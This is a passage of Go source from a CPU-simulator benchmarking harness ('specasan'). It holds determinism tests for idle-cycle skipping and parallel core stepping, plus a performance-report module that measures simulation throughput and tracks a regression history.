	opt.Scale = 0.02
	opt.Attach = func(string, core.Mitigation, *cpu.Machine) {
		panic("injected cell fault")
	}
	r, cached, err := RunCell(spec, core.Unsafe, opt)
	if r != nil || cached {
		t.Fatalf("panicking cell returned a result: r=%v cached=%v", r, cached)
	}
	if err == nil || !strings.Contains(err.Error(), "injected cell fault") ||
		!strings.Contains(err.Error(), spec.Name) {
		t.Fatalf("panic not converted to a descriptive error: %v", err)
	}
	if !strings.Contains(err.Error(), "goroutine") {
		t.Fatalf("panic error missing stack trace: %v", err)
	}
}
