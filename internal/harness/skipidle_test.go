package harness

import (
	"bytes"
	"fmt"
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/obs"
	"specasan/internal/workloads"
)

// TestSkipIdleSweepByteIdentical is the exactness contract of event-driven
// idle-cycle skipping: a sweep with skipping on must be byte-identical to
// the same sweep walking every cycle — results, the full per-cell counter
// sets (including the analytically-accounted stall counters), the verbose
// log, the JSONL metrics stream, and a Chrome trace of a cell.
func TestSkipIdleSweepByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	specs := []*workloads.Spec{
		workloads.ByName("508.namd_r"), // compute-bound
		workloads.ByName("505.mcf_r"),  // memory-bound: the skip-heavy case
		workloads.ByName("557.xz_r"),
	}
	for _, s := range specs {
		if s == nil {
			t.Fatal("workload missing")
		}
	}
	mits := []core.Mitigation{core.Unsafe, core.Fence, core.SpecASan}

	run := func(noSkip bool) string {
		var log, metrics bytes.Buffer
		var tr *obs.Tracer
		opt := Options{
			Scale: 0.02, MaxCycles: 50_000_000,
			Verbose: true, Log: &log,
			Metrics:    &metrics,
			NoSkipIdle: noSkip,
			Attach: func(bench string, mit core.Mitigation, m *cpu.Machine) {
				if bench == "505.mcf_r" && mit == core.SpecASan {
					tr = obs.NewTracer(len(m.Cores), 0)
					m.AttachObs(tr, nil)
				}
			},
		}
		sw, err := RunSweep(specs, mits, opt)
		if err != nil {
			t.Fatalf("noSkip=%v: %v", noSkip, err)
		}
		if tr == nil {
			t.Fatalf("noSkip=%v: traced cell never ran", noSkip)
		}
		var b bytes.Buffer
		b.WriteString(sweepFingerprint(sw, &log))
		for _, bench := range sw.Benchmarks {
			for _, mit := range sw.Mitigations {
				if r := sw.Results[bench][mit]; r != nil {
					fmt.Fprintf(&b, "%s/%v stats: %s\n", bench, mit, r.Stats)
				}
			}
		}
		fmt.Fprintf(&b, "--- metrics ---\n%s", metrics.String())
		if err := obs.WriteChromeTrace(&b, tr); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}

	withSkip, withoutSkip := run(false), run(true)
	if withSkip != withoutSkip {
		t.Errorf("skip-idle changes observable output:\n-- skip on --\n%.4000s\n-- skip off --\n%.4000s",
			withSkip, withoutSkip)
	}
}
