package harness

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"time"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/golden"
	"specasan/internal/isa"
	"specasan/internal/par"
	"specasan/internal/trace"
	"specasan/internal/workloads"
)

// PerfSchema versions the BENCH_sim.json layout. v2 adds a `history` array
// (the cross-PR perf trajectory; a v1 file's single measurement becomes
// history[0] on upgrade), splits host-loop steps from simulated cycles in
// the single-core block (they differ under idle-cycle skipping), and pins
// the sweep measurement to workers=GOMAXPROCS. v3 adds the golden
// interpreter's functional throughput and a sampled-vs-full sweep leg
// (fast-forward sampling), and reports the warmup knob the single-core
// measurement used. v4 adds the intra-machine multicore block (one
// PARSEC machine stepped serially vs one goroutine per simulated core)
// and unpins the sweep leg's worker count: it now comes from the caller
// (-sweep-workers; 0 still means GOMAXPROCS) and the resolved value is
// recorded instead of silently imposed. v5 adds the trace-replay block:
// the same single-core cell run start to finish fetching from the
// live-assembled program and from a recorded trace, so the report records
// what replay costs (or saves) per simulated instruction.
const (
	PerfSchema   = "specasan-bench/perf/v5"
	perfSchemaV4 = "specasan-bench/perf/v4"
	perfSchemaV3 = "specasan-bench/perf/v3"
	perfSchemaV2 = "specasan-bench/perf/v2"
	perfSchemaV1 = "specasan-bench/perf/v1"
)

// PerfBaseline pins the pre-optimisation numbers the current build is
// compared against: the linear-scan core and serial sweep harness as of the
// chaos-layer commit, measured with BenchmarkMachineStep on the same recipe
// (508.namd_r, scale 10, no mitigation) as SingleCorePerf. Host-specific,
// like every wall-clock figure in the report.
type PerfBaseline struct {
	Description    string  `json:"description"`
	HostNsPerCycle float64 `json:"host_ns_per_simulated_cycle"`
	SimInstsPerSec float64 `json:"simulated_insts_per_second"`
}

// ReferenceBaseline returns the recorded pre-optimisation measurement.
func ReferenceBaseline() PerfBaseline {
	return PerfBaseline{
		Description:    "linear-scan core + serial harness (pre O(1) rename/wakeup)",
		HostNsPerCycle: 4175,
		SimInstsPerSec: 879_294,
	}
}

// SingleCorePerf is the steady-state Machine.Step measurement: how many host
// nanoseconds one simulated cycle costs, and whether the hot loop allocates.
type SingleCorePerf struct {
	Workload   string `json:"workload"`
	Mitigation string `json:"mitigation"`
	// Steps counts host Machine.Step calls; Cycles counts simulated cycles
	// they covered. With idle-cycle skipping one Step can advance many
	// cycles, so Cycles >= Steps and the per-cycle cost divides by Cycles.
	Steps              uint64  `json:"steps"`
	Cycles             uint64  `json:"cycles_simulated"`
	Committed          uint64  `json:"committed_instructions"`
	HostNsPerCycle     float64 `json:"host_ns_per_simulated_cycle"`
	SimInstsPerSec     float64 `json:"simulated_insts_per_second"`
	SimMIPS            float64 `json:"simulated_mips"`
	AllocsPerStep      float64 `json:"allocs_per_step"`
	AllocsPerCommitted float64 `json:"allocs_per_committed_instr"`
}

// GoldenPerf is the functional-interpreter measurement: how fast the golden
// path (the fast-forward engine of sampled simulation) retires instructions
// on the same recipe as the single-core block.
type GoldenPerf struct {
	Workload string  `json:"workload"`
	Insts    uint64  `json:"insts_simulated"`
	SimMIPS  float64 `json:"simulated_mips"`
}

// SampledSweepPerf is the end-to-end sampled-simulation measurement: the
// same sweep run fully detailed and with windowed fast-forward sampling,
// plus the worst-case IPC disagreement between the two, so the speedup is
// never quoted without its accuracy cost.
type SampledSweepPerf struct {
	Workloads          int     `json:"workloads"`
	Mitigations        int     `json:"mitigations"`
	Cells              int     `json:"cells"`
	Scale              float64 `json:"scale"`
	Windows            int     `json:"sample_windows"`
	WindowInsts        uint64  `json:"sample_window_insts"`
	FullWallSeconds    float64 `json:"full_wall_seconds"`
	SampledWallSeconds float64 `json:"sampled_wall_seconds"`
	Speedup            float64 `json:"speedup_vs_full"`
	MaxIPCDeltaPct     float64 `json:"max_ipc_delta_pct"`
}

// MulticorePerf is the intra-machine parallel-stepping measurement: the
// same multi-core machine run start to finish with serial core stepping
// and with one goroutine per simulated core (ParallelCores forced past
// the auto fallback). The determinism suite pins the two runs to
// byte-identical results; this block records what the goroutines buy —
// or, on a single-hardware-thread host, what the barrier handoffs cost.
type MulticorePerf struct {
	Workload            string  `json:"workload"`
	Cores               int     `json:"cores"`
	GoMaxProcs          int     `json:"gomaxprocs"`
	Cycles              uint64  `json:"cycles_simulated"`
	SerialWallSeconds   float64 `json:"serial_wall_seconds"`
	ParallelWallSeconds float64 `json:"parallel_wall_seconds"`
	Speedup             float64 `json:"speedup_vs_serial"`
}

// ReplayPerf is the trace-replay measurement: the single-core recipe run
// start to finish fetching from the live-assembled program and from a
// recorded trace of the same build. Both machines are bit-identical by the
// replay determinism tests; this block records only what the trace
// frontend's sorted-block fetch path costs per simulated instruction
// relative to the assembled program's (Overhead 1.0 = free replay).
type ReplayPerf struct {
	Workload        string  `json:"workload"`
	RecordedInsts   uint64  `json:"recorded_insts"`
	Committed       uint64  `json:"committed_instructions"`
	DecodeNsPerInst float64 `json:"decode_ns_per_inst"`
	ReplayNsPerInst float64 `json:"replay_ns_per_inst"`
	Overhead        float64 `json:"replay_overhead_vs_decode"`
}

// SweepPerf is the harness-level measurement: wall time of one normalized-
// execution-time sweep on the worker pool, against the serial path on the
// same host and inputs.
type SweepPerf struct {
	Workloads         int     `json:"workloads"`
	Mitigations       int     `json:"mitigations"`
	Cells             int     `json:"cells"`
	Scale             float64 `json:"scale"`
	Workers           int     `json:"workers"`
	WallSeconds       float64 `json:"wall_seconds"`
	SerialWallSeconds float64 `json:"serial_wall_seconds"`
	Speedup           float64 `json:"speedup_vs_serial"`
}

// PerfHistoryEntry is one point in the cross-PR perf trajectory: the headline
// numbers of a past `specasan-bench -perf` run, kept when the report is
// regenerated so BENCH_sim.json records progress instead of overwriting it.
type PerfHistoryEntry struct {
	GeneratedAt string `json:"generated_at"`
	Description string `json:"description,omitempty"`
	// ScenarioHash identifies the scenario the sweep leg ran under
	// (internal/scenario canonical hash). Entries recorded before the
	// scenario layer have none; the regression gate treats a hash mismatch
	// (including legacy-empty) as incomparable and skips with a notice.
	ScenarioHash   string  `json:"scenario_hash,omitempty"`
	HostNsPerCycle float64 `json:"host_ns_per_simulated_cycle"`
	SimMIPS        float64 `json:"simulated_mips"`
	SweepSpeedup   float64 `json:"sweep_speedup_vs_serial"`
	SweepWorkers   int     `json:"sweep_workers"`
	GoMaxProcs     int     `json:"gomaxprocs"`
	// GoldenMIPS and SampledSweepSpeedup arrive with the v3 schema; entries
	// recorded before it carry zero and marshal without the fields.
	GoldenMIPS          float64 `json:"golden_mips,omitempty"`
	SampledSweepSpeedup float64 `json:"sampled_sweep_speedup_vs_full,omitempty"`
	// MulticoreCores and MulticoreSpeedup arrive with the v4 schema.
	MulticoreCores   int     `json:"multicore_cores,omitempty"`
	MulticoreSpeedup float64 `json:"multicore_speedup_vs_serial,omitempty"`
	// ReplayOverhead arrives with the v5 schema: trace-replay ns/inst over
	// live-decode ns/inst for the same cell (1.0 = free replay).
	ReplayOverhead float64 `json:"replay_overhead_vs_decode,omitempty"`
}

// PerfReport is the schema of BENCH_sim.json, the tracked performance
// baseline of the simulator substrate.
type PerfReport struct {
	Schema            string           `json:"schema"`
	GeneratedAt       string           `json:"generated_at"`
	ScenarioHash      string           `json:"scenario_hash,omitempty"`
	GoMaxProcs        int              `json:"gomaxprocs"`
	SingleCore        SingleCorePerf   `json:"single_core"`
	Golden            GoldenPerf       `json:"golden"`
	Sweep             SweepPerf        `json:"sweep"`
	SampledSweep      SampledSweepPerf `json:"sampled_sweep"`
	Multicore         MulticorePerf    `json:"multicore"`
	Replay            ReplayPerf       `json:"replay"`
	Baseline          PerfBaseline     `json:"baseline"`
	SingleCoreSpeedup float64          `json:"single_core_speedup_vs_baseline"`
	// History holds every measurement ever recorded, oldest first, ending
	// with this report's own headline entry.
	History []PerfHistoryEntry `json:"history"`
}

// HistoryEntry summarises this report as one trajectory point.
func (r *PerfReport) HistoryEntry(description string) PerfHistoryEntry {
	return PerfHistoryEntry{
		GeneratedAt:    r.GeneratedAt,
		Description:    description,
		ScenarioHash:   r.ScenarioHash,
		HostNsPerCycle: r.SingleCore.HostNsPerCycle,
		SimMIPS:        r.SingleCore.SimMIPS,
		SweepSpeedup:   r.Sweep.Speedup,
		SweepWorkers:   r.Sweep.Workers,
		GoMaxProcs:     r.GoMaxProcs,

		GoldenMIPS:          r.Golden.SimMIPS,
		SampledSweepSpeedup: r.SampledSweep.Speedup,
		MulticoreCores:      r.Multicore.Cores,
		MulticoreSpeedup:    r.Multicore.Speedup,
		ReplayOverhead:      r.Replay.Overhead,
	}
}

// LoadPerfHistory reads an existing BENCH_sim.json and returns its history:
// a v2 file's array verbatim, a v1 file's single measurement converted to
// one entry, nil when the file does not exist. Regeneration appends to this
// so the trajectory survives across PRs.
func LoadPerfHistory(path string) ([]PerfHistoryEntry, error) {
	b, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	var old PerfReport
	if err := json.Unmarshal(b, &old); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	switch old.Schema {
	case perfSchemaV1:
		return []PerfHistoryEntry{old.HistoryEntry("v1 report (pre-history)")}, nil
	case perfSchemaV2, perfSchemaV3, perfSchemaV4, PerfSchema:
		// Pre-v5 entries simply lack the later fields (golden MIPS, sampled
		// speedup, multicore speedup, replay overhead); the history array
		// itself is forward-compatible.
		return old.History, nil
	default:
		return nil, fmt.Errorf("%s: unknown perf schema %q", path, old.Schema)
	}
}

// perfWorkload is the fixed single-core measurement recipe; it matches
// internal/cpu's BenchmarkMachineStep so BENCH_sim.json and the microbench
// track the same hot loop.
const (
	perfWorkloadName  = "508.namd_r"
	perfWorkloadScale = 10
)

// Fixed recipe for the sampled-sweep leg: windowed sampling with enough
// windows to exercise the transplant seam repeatedly but a small enough
// detailed fraction that the leg demonstrates the mode's point.
const (
	perfSampleWindows     = 4
	perfSampleWindowInsts = 20_000
	perfGoldenInsts       = 20_000_000
	// The sampled-vs-full comparison runs at the single-core recipe's scale
	// (sampling exists for scale >> 1 workloads; measuring it at scale 1
	// would understate both legs) on a workload subset, because the full
	// detailed leg at this scale costs ~10x the scale-1 sweep per cell.
	perfSampledScale     = 10
	perfSampledWorkloads = 4
)

func perfMachine() (*cpu.Machine, int, error) {
	spec := workloads.ByName(perfWorkloadName)
	if spec == nil {
		return nil, 0, fmt.Errorf("workload %s missing", perfWorkloadName)
	}
	prog, err := spec.Build(false, perfWorkloadScale)
	if err != nil {
		return nil, 0, err
	}
	cfg := core.DefaultConfig()
	cfg.Cores = spec.Threads
	m, err := cpu.NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		return nil, 0, err
	}
	for i := 0; i < spec.Threads; i++ {
		m.Core(i).SetReg(isa.X0, uint64(i))
	}
	return m, spec.Threads, nil
}

func machineCommitted(m *cpu.Machine, cores int) uint64 {
	var total uint64
	for i := 0; i < cores; i++ {
		total += m.Core(i).Committed()
	}
	return total
}

// MeasureSingleCore runs the fixed recipe for `steps` steady-state steps and
// reports host ns per simulated cycle, simulated instruction throughput, and
// allocation counts (from runtime.MemStats deltas, so the figure includes
// every allocation the step path causes, not just those in internal/cpu).
// warmup is the step count excluded up front — the same knob sampled
// simulation uses for its detailed windows (Options.WarmupCycles; pass
// DefaultWarmupCycles for the historical recipe).
func MeasureSingleCore(steps, warmup uint64) (SingleCorePerf, error) {
	m, cores, err := perfMachine()
	if err != nil {
		return SingleCorePerf{}, err
	}
	for i := uint64(0); i < warmup && !m.Done(); i++ {
		m.Step()
	}
	if m.Done() {
		return SingleCorePerf{}, fmt.Errorf("perf workload halted during warmup")
	}
	committed0 := machineCommitted(m, cores)
	cycles0 := m.Cycle()
	var ms0, ms1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms0)
	start := time.Now()
	var done uint64
	for ; done < steps && !m.Done(); done++ {
		m.Step()
	}
	wall := time.Since(start)
	runtime.ReadMemStats(&ms1)
	committed := machineCommitted(m, cores) - committed0
	cycles := m.Cycle() - cycles0
	if done == 0 || committed == 0 {
		return SingleCorePerf{}, fmt.Errorf("perf workload too small: %d steps, %d commits", done, committed)
	}
	allocs := float64(ms1.Mallocs - ms0.Mallocs)
	perSec := float64(committed) / wall.Seconds()
	return SingleCorePerf{
		Workload:           perfWorkloadName,
		Mitigation:         core.Unsafe.String(),
		Steps:              done,
		Cycles:             cycles,
		Committed:          committed,
		HostNsPerCycle:     float64(wall.Nanoseconds()) / float64(cycles),
		SimInstsPerSec:     perSec,
		SimMIPS:            perSec / 1e6,
		AllocsPerStep:      allocs / float64(done),
		AllocsPerCommitted: allocs / float64(committed),
	}, nil
}

// MeasureGolden measures the functional interpreter's throughput on the
// fixed recipe: fresh full walks (cold basic-block cache each time, the way
// sampling uses it) until at least `insts` instructions have retired.
func MeasureGolden(insts uint64) (GoldenPerf, error) {
	spec := workloads.ByName(perfWorkloadName)
	if spec == nil {
		return GoldenPerf{}, fmt.Errorf("workload %s missing", perfWorkloadName)
	}
	prog, err := spec.Build(false, perfWorkloadScale)
	if err != nil {
		return GoldenPerf{}, err
	}
	// One throwaway walk so the measurement sees a hot host (branch
	// predictors, page cache), matching MeasureSingleCore's warmup intent.
	golden.New(prog).Run(insts)
	var done uint64
	start := time.Now()
	for done < insts {
		res := golden.New(prog).Run(insts)
		if res.Insts == 0 {
			return GoldenPerf{}, fmt.Errorf("golden walk retired nothing (%v)", res.Reason)
		}
		done += res.Insts
	}
	wall := time.Since(start)
	return GoldenPerf{
		Workload: perfWorkloadName,
		Insts:    done,
		SimMIPS:  float64(done) / wall.Seconds() / 1e6,
	}, nil
}

// MeasureSampledSweep times the same sweep fully detailed and under windowed
// fast-forward sampling (opt's sampling knobs, or the fixed recipe when
// unset), and reports the speedup together with the worst per-cell IPC
// disagreement. The cache is disabled for both legs — this measures
// simulation, not the store.
func MeasureSampledSweep(specs []*workloads.Spec, mits []core.Mitigation, opt Options) (SampledSweepPerf, error) {
	opt.Verbose, opt.Log = false, nil
	opt.Store, opt.ResultHash = nil, ""
	if !opt.Sampling() {
		opt.SampleWindows = perfSampleWindows
		opt.SampleWindowInsts = perfSampleWindowInsts
	}

	full := opt
	full.FastForwardInsts, full.SampleWindows, full.SampleWindowInsts = 0, 0, 0
	start := time.Now()
	fs, err := RunSweep(specs, mits, full)
	if err != nil {
		return SampledSweepPerf{}, err
	}
	fullWall := time.Since(start)

	start = time.Now()
	ss, err := RunSweep(specs, mits, opt)
	if err != nil {
		return SampledSweepPerf{}, err
	}
	sampledWall := time.Since(start)

	var maxDelta float64
	for _, b := range fs.Benchmarks {
		for _, m := range fs.Mitigations {
			fr, sr := fs.Results[b][m], ss.Results[b][m]
			if fr == nil || sr == nil || fr.Cycles == 0 || sr.Cycles == 0 {
				continue
			}
			fipc := float64(fr.Committed) / float64(fr.Cycles)
			sipc := float64(sr.Committed) / float64(sr.Cycles)
			if d := (sipc - fipc) / fipc * 100; d > maxDelta {
				maxDelta = d
			} else if -d > maxDelta {
				maxDelta = -d
			}
		}
	}
	sp := SampledSweepPerf{
		Workloads:          len(specs),
		Mitigations:        len(mits),
		Cells:              len(specs) * len(mits),
		Scale:              opt.Scale,
		Windows:            opt.SampleWindows,
		WindowInsts:        opt.SampleWindowInsts,
		FullWallSeconds:    fullWall.Seconds(),
		SampledWallSeconds: sampledWall.Seconds(),
		MaxIPCDeltaPct:     maxDelta,
	}
	if sampledWall > 0 {
		sp.Speedup = fullWall.Seconds() / sampledWall.Seconds()
	}
	return sp, nil
}

// Fixed recipe for the multicore leg: a 4-thread PARSEC kernel large
// enough that a whole-machine run dominates goroutine startup, bounded so
// a wedged build cannot hang the measurement.
const (
	perfMulticoreWorkload  = "blackscholes"
	perfMulticoreScale     = 1
	perfMulticoreMaxCycles = 100_000_000
)

// MeasureMulticore runs the fixed multicore recipe twice — serial core
// stepping, then one goroutine per simulated core — and reports both wall
// times. ParallelCores is forced to the core count for the parallel leg,
// bypassing the GOMAXPROCS auto fallback, so the block records the real
// cost/benefit of the goroutine schedule on this host either way.
func MeasureMulticore() (MulticorePerf, error) {
	spec := workloads.ByName(perfMulticoreWorkload)
	if spec == nil {
		return MulticorePerf{}, fmt.Errorf("workload %s missing", perfMulticoreWorkload)
	}
	run := func(parallel int) (float64, uint64, error) {
		prog, err := spec.Build(false, perfMulticoreScale)
		if err != nil {
			return 0, 0, err
		}
		cfg := core.DefaultConfig()
		cfg.Cores = spec.Threads
		m, err := cpu.NewMachine(cfg, core.Unsafe, prog)
		if err != nil {
			return 0, 0, err
		}
		for i := 0; i < spec.Threads; i++ {
			m.Core(i).SetReg(isa.X0, uint64(i))
		}
		m.ParallelCores = parallel
		start := time.Now()
		res := m.Run(perfMulticoreMaxCycles)
		wall := time.Since(start)
		if res.Err != nil {
			return 0, 0, fmt.Errorf("%s (parallel=%d): %v", perfMulticoreWorkload, parallel, res.Err)
		}
		if res.TimedOut {
			return 0, 0, fmt.Errorf("%s (parallel=%d): timed out at %d cycles", perfMulticoreWorkload, parallel, res.Cycles)
		}
		return wall.Seconds(), res.Cycles, nil
	}
	serialWall, cycles, err := run(1)
	if err != nil {
		return MulticorePerf{}, err
	}
	parallelWall, _, err := run(spec.Threads)
	if err != nil {
		return MulticorePerf{}, err
	}
	mp := MulticorePerf{
		Workload:            perfMulticoreWorkload,
		Cores:               spec.Threads,
		GoMaxProcs:          runtime.GOMAXPROCS(0),
		Cycles:              cycles,
		SerialWallSeconds:   serialWall,
		ParallelWallSeconds: parallelWall,
	}
	if parallelWall > 0 {
		mp.Speedup = serialWall / parallelWall
	}
	return mp, nil
}

// MeasureReplay records the single-core recipe as a trace and runs the cell
// to completion twice — fetching from the live-assembled program, then from
// the recorded trace's frontend — and reports ns per committed instruction
// for both legs. A decode-leg machine is built fresh for the replay leg's
// comparison too, so the two legs differ only in the Frontend behind the
// fetch stage.
func MeasureReplay() (ReplayPerf, error) {
	spec := workloads.ByName(perfWorkloadName)
	if spec == nil {
		return ReplayPerf{}, fmt.Errorf("workload %s missing", perfWorkloadName)
	}
	tr, err := spec.RecordTrace(false, perfWorkloadScale, trace.RecordConfig{TagSeed: cpu.TagSeedBase})
	if err != nil {
		return ReplayPerf{}, err
	}
	run := func(mk func() (cpu.Frontend, error)) (float64, uint64, error) {
		fe, err := mk()
		if err != nil {
			return 0, 0, err
		}
		cfg := core.DefaultConfig()
		cfg.Cores = spec.Threads
		m, err := cpu.NewMachineFrontend(cfg, core.Unsafe, fe)
		if err != nil {
			return 0, 0, err
		}
		for i := 0; i < spec.Threads; i++ {
			m.Core(i).SetReg(isa.X0, uint64(i))
		}
		start := time.Now()
		res := m.Run(perfMulticoreMaxCycles)
		wall := time.Since(start)
		if res.Err != nil {
			return 0, 0, fmt.Errorf("%s replay leg: %v", perfWorkloadName, res.Err)
		}
		if res.TimedOut || res.Committed == 0 {
			return 0, 0, fmt.Errorf("%s replay leg: timed out at %d cycles", perfWorkloadName, res.Cycles)
		}
		return float64(wall.Nanoseconds()) / float64(res.Committed), res.Committed, nil
	}
	decodeNs, committed, err := run(func() (cpu.Frontend, error) {
		prog, err := spec.Build(false, perfWorkloadScale)
		if err != nil {
			return nil, err
		}
		return cpu.AssembledFrontend{Prog: prog}, nil
	})
	if err != nil {
		return ReplayPerf{}, err
	}
	replayNs, _, err := run(func() (cpu.Frontend, error) { return tr.Frontend() })
	if err != nil {
		return ReplayPerf{}, err
	}
	rp := ReplayPerf{
		Workload:        perfWorkloadName,
		RecordedInsts:   tr.Meta.Insts,
		Committed:       committed,
		DecodeNsPerInst: decodeNs,
		ReplayNsPerInst: replayNs,
	}
	if decodeNs > 0 {
		rp.Overhead = replayNs / decodeNs
	}
	return rp, nil
}

// MeasureSweep times one Figure 6-style sweep twice — serial, then on the
// worker pool — and reports both wall times. Logging is disabled for the
// measurement; the determinism tests cover output equivalence separately.
func MeasureSweep(specs []*workloads.Spec, mits []core.Mitigation, opt Options) (SweepPerf, error) {
	opt.Verbose = false
	opt.Log = nil

	serialOpt := opt
	serialOpt.Workers = 1
	start := time.Now()
	if _, err := RunSweep(specs, mits, serialOpt); err != nil {
		return SweepPerf{}, err
	}
	serialWall := time.Since(start)

	start = time.Now()
	if _, err := RunSweep(specs, mits, opt); err != nil {
		return SweepPerf{}, err
	}
	wall := time.Since(start)

	sp := SweepPerf{
		Workloads:         len(specs),
		Mitigations:       len(mits),
		Cells:             len(specs) * len(mits),
		Scale:             opt.Scale,
		Workers:           par.Workers(opt.Workers, len(specs)*len(mits)),
		WallSeconds:       wall.Seconds(),
		SerialWallSeconds: serialWall.Seconds(),
	}
	if wall > 0 {
		sp.Speedup = serialWall.Seconds() / wall.Seconds()
	}
	return sp, nil
}

// MeasurePerf produces the full report: single-core steady state, golden
// interpreter throughput, the serial-vs-parallel sweep comparison, the
// sampled-vs-full sweep comparison, and the intra-machine multicore
// comparison. The sweep legs run at opt.Workers (0 = GOMAXPROCS, the
// historical pin) and the resolved pool size is recorded in the report —
// the -sweep-workers flag reaches here, it is no longer silently
// overridden. Warmup for the single-core leg comes from opt's WarmupCycles
// knob (DefaultWarmupCycles when unset).
func MeasurePerf(steps uint64, specs []*workloads.Spec, mits []core.Mitigation, opt Options) (*PerfReport, error) {
	single, err := MeasureSingleCore(steps, opt.warmup())
	if err != nil {
		return nil, err
	}
	gold, err := MeasureGolden(perfGoldenInsts)
	if err != nil {
		return nil, err
	}
	sweep, err := MeasureSweep(specs, mits, opt)
	if err != nil {
		return nil, err
	}
	multi, err := MeasureMulticore()
	if err != nil {
		return nil, err
	}
	replay, err := MeasureReplay()
	if err != nil {
		return nil, err
	}
	// The sampled comparison is pinned at scale perfSampledScale on the
	// first perfSampledWorkloads specs — the workload regime sampling is
	// for, kept to a subset so the fully-detailed reference leg stays
	// affordable.
	sopt := opt
	sopt.Scale = perfSampledScale
	sspecs := specs
	if len(sspecs) > perfSampledWorkloads {
		sspecs = sspecs[:perfSampledWorkloads]
	}
	sampled, err := MeasureSampledSweep(sspecs, mits, sopt)
	if err != nil {
		return nil, err
	}
	base := ReferenceBaseline()
	rep := &PerfReport{
		Schema:       PerfSchema,
		GeneratedAt:  time.Now().UTC().Format(time.RFC3339),
		ScenarioHash: opt.ScenarioHash,
		GoMaxProcs:   runtime.GOMAXPROCS(0),
		SingleCore:   single,
		Golden:       gold,
		Sweep:        sweep,
		SampledSweep: sampled,
		Multicore:    multi,
		Replay:       replay,
		Baseline:     base,
	}
	if single.HostNsPerCycle > 0 {
		rep.SingleCoreSpeedup = base.HostNsPerCycle / single.HostNsPerCycle
	}
	return rep, nil
}

// AppendHistory loads the trajectory from an existing report at path (if
// any) and sets r.History to it plus r's own entry. Call before WriteJSON
// when regenerating a tracked report.
func (r *PerfReport) AppendHistory(path, description string) error {
	hist, err := LoadPerfHistory(path)
	if err != nil {
		return err
	}
	r.History = append(hist, r.HistoryEntry(description))
	return nil
}

// PerfRegressFactor is the host-ns-per-cycle growth the regression gate
// tolerates between consecutive comparable history entries (matches CI's
// 25% MachineStep smoke threshold).
const PerfRegressFactor = 1.25

// RegressionVsPrevious compares the report's own history entry (the last
// one; call after AppendHistory) against the most recent prior entry. It
// returns a human-readable notice and whether the gate should fail.
//
// The comparison only holds when both entries measured the same scenario:
// when the reference entry carries a different scenario hash — including the
// empty hash of entries recorded before the scenario layer — the gate skips
// with a visible notice instead of comparing incomparable runs.
func (r *PerfReport) RegressionVsPrevious() (notice string, regressed bool) {
	n := len(r.History)
	if n < 2 {
		return "perf gate: no prior history entry; nothing to compare", false
	}
	cur, prev := r.History[n-1], r.History[n-2]
	if prev.ScenarioHash != cur.ScenarioHash {
		return fmt.Sprintf(
			"perf gate: SKIPPED — reference entry (%s) was produced under scenario %q, this run under %q; not comparable",
			prev.GeneratedAt, orUnstamped(prev.ScenarioHash), orUnstamped(cur.ScenarioHash)), false
	}
	if prev.HostNsPerCycle > 0 && cur.HostNsPerCycle > prev.HostNsPerCycle*PerfRegressFactor {
		return fmt.Sprintf(
			"perf gate: REGRESSED — %.0f ns/cycle vs %.0f reference (>%.0f%% growth)",
			cur.HostNsPerCycle, prev.HostNsPerCycle, (PerfRegressFactor-1)*100), true
	}
	return fmt.Sprintf("perf gate: ok — %.0f ns/cycle vs %.0f reference (scenario %s)",
		cur.HostNsPerCycle, prev.HostNsPerCycle, orUnstamped(cur.ScenarioHash)), false
}

func orUnstamped(hash string) string {
	if hash == "" {
		return "unstamped (pre-scenario)"
	}
	return hash
}

// WriteJSON writes the report to path, pretty-printed with a trailing
// newline so it diffs cleanly under version control.
func (r *PerfReport) WriteJSON(path string) error {
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
