package harness

import (
	"bytes"
	"fmt"
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/obs"
	"specasan/internal/workloads"
)

// TestParallelCoresSweepByteIdentical is the harness half of the
// intra-machine parallelism contract: a figure-style sweep whose machines
// step their cores on one goroutine each must be byte-identical to the same
// sweep stepping serially — results, per-cell counter sets, the verbose
// log, the JSONL metrics stream, and a Chrome trace of a 4-core cell. The
// PARSEC rows are the paper's multithreaded configuration, so their cells
// genuinely engage the parallel schedule; the SPEC row pins the single-core
// fallback inside the same sweep.
func TestParallelCoresSweepByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	specs := []*workloads.Spec{
		workloads.ByName("blackscholes"), // 4-core PARSEC
		workloads.ByName("swaptions"),    // 4-core PARSEC
		workloads.ByName("505.mcf_r"),    // single-core: fallback stays serial
	}
	for _, s := range specs {
		if s == nil {
			t.Fatal("workload missing")
		}
	}
	mits := []core.Mitigation{core.Unsafe, core.SpecASan}

	run := func(parallelCores int) string {
		var log, metrics bytes.Buffer
		var tr *obs.Tracer
		opt := Options{
			Scale: 0.02, MaxCycles: 50_000_000,
			Verbose: true, Log: &log,
			Metrics:       &metrics,
			ParallelCores: parallelCores,
			Attach: func(bench string, mit core.Mitigation, m *cpu.Machine) {
				if bench == "blackscholes" && mit == core.SpecASan {
					tr = obs.NewTracer(len(m.Cores), 0)
					m.AttachObs(tr, nil)
				}
			},
		}
		sw, err := RunSweep(specs, mits, opt)
		if err != nil {
			t.Fatalf("parallelCores=%d: %v", parallelCores, err)
		}
		if tr == nil {
			t.Fatalf("parallelCores=%d: traced cell never ran", parallelCores)
		}
		var b bytes.Buffer
		b.WriteString(sweepFingerprint(sw, &log))
		for _, bench := range sw.Benchmarks {
			for _, mit := range sw.Mitigations {
				if r := sw.Results[bench][mit]; r != nil {
					fmt.Fprintf(&b, "%s/%v stats: %s\n", bench, mit, r.Stats)
				}
			}
		}
		fmt.Fprintf(&b, "--- metrics ---\n%s", metrics.String())
		if err := obs.WriteChromeTrace(&b, tr); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}

	serial := run(1)
	if got := run(4); got != serial {
